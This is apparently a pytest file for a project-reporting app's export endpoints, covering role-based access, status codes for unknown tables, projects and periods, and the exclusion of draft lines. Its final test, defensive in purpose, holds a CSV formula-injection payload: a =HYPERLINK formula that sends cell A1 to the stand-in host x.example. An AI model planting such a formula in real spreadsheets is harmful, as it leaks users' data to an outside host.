"""Who may export a project's figures, what an export that does not exist answers, and what it never does."""

import pytest

from reporting.exports import csv_bytes
from reporting.figures import EXPENSE_COLUMNS
from tests.reporting.helpers import csv_rows, csv_text, export, header


@pytest.mark.parametrize("role", ["staff", "coordinator", "auditor"])
@pytest.mark.parametrize("name", ["expenses.csv", "budget.xlsx"])
def test_staff_coordinators_and_auditors_export(world, client_for, role, name):
    assert export(client_for(world.users[role]), world.project, name).status_code == 200


@pytest.mark.parametrize("role", ["partner_same", "partner_other"])
@pytest.mark.parametrize("name", ["expenses.csv", "budget.xlsx"])
def test_a_partner_may_not_export(world, client_for, role, name):
    response = export(client_for(world.users[role]), world.project, name)
    assert response.status_code == 403
    assert response.json()["detail"] == (
        "Only the cluster office's staff, the project's coordinators or the project's auditors "
        "may request and read generated documents and exports."
    )


@pytest.mark.parametrize("name", ["expenses.csv", "budget.xlsx"])
def test_for_an_outsider_the_export_does_not_exist(world, client_for, name):
    assert export(client_for(world.users["outsider"]), world.project, name).status_code == 404


def test_an_anonymous_export_is_401(world, client_for):
    assert export(client_for(None), world.project, "expenses.csv").status_code == 401


def test_a_world_export_has_the_header_and_no_draft_lines(world, client_for):
    # CIRCLE's only expense line is in a draft claim.
    text = csv_text(export(client_for(world.users["coordinator"]), world.project, "expenses.csv"))
    assert header(text) == EXPENSE_COLUMNS
    assert csv_rows(text) == []


@pytest.mark.parametrize("name", ["invoices.csv", "expenses.pdf", "budget.json", "expenses", "budget.csv.xlsx"])
def test_an_unknown_table_or_format_is_404(world, client_for, name):
    assert export(client_for(world.users["staff"]), world.project, name).status_code == 404


def test_an_unknown_project_is_404(world, client_for):
    response = client_for(world.users["staff"]).get("/api/projects/999999/exports/expenses.csv")
    assert response.status_code == 404


@pytest.mark.parametrize("value", ["other project", "99999999"])
def test_a_period_outside_the_project_is_404(world, client_for, value, other_project_period):
    period = other_project_period.pk if value == "other project" else value
    response = export(client_for(world.users["staff"]), world.project, "expenses.csv", period=period)
    assert response.status_code == 404
    # The project's own period is fine.
    own = export(client_for(world.users["staff"]), world.project, "expenses.csv", period=world.objects["period"].pk)
    assert own.status_code == 200


@pytest.mark.parametrize("value", ["abc", "-1", "0", "1.5"])
def test_a_period_that_is_not_an_id_is_400_naming_it(world, client_for, value):
    response = export(client_for(world.users["staff"]), world.project, "expenses.csv", period=value)
    assert response.status_code == 400
    assert list(response.json()) == ["period"]


def test_text_a_partner_typed_never_runs_as_a_formula_in_the_csv():
    rows = [('=HYPERLINK("http://x.example/?"&A1,"invoice")', "+1", "-", "@SUM(A1)", "Travel – Velenje")]
    text = csv_bytes(["a", "b", "c", "d", "e"], rows).decode("utf-8-sig")

    cells = text.splitlines()[1]
    assert cells == '"\'=HYPERLINK(""http://x.example/?""&A1,""invoice"")",\'+1,\'-,\'@SUM(A1),Travel – Velenje'
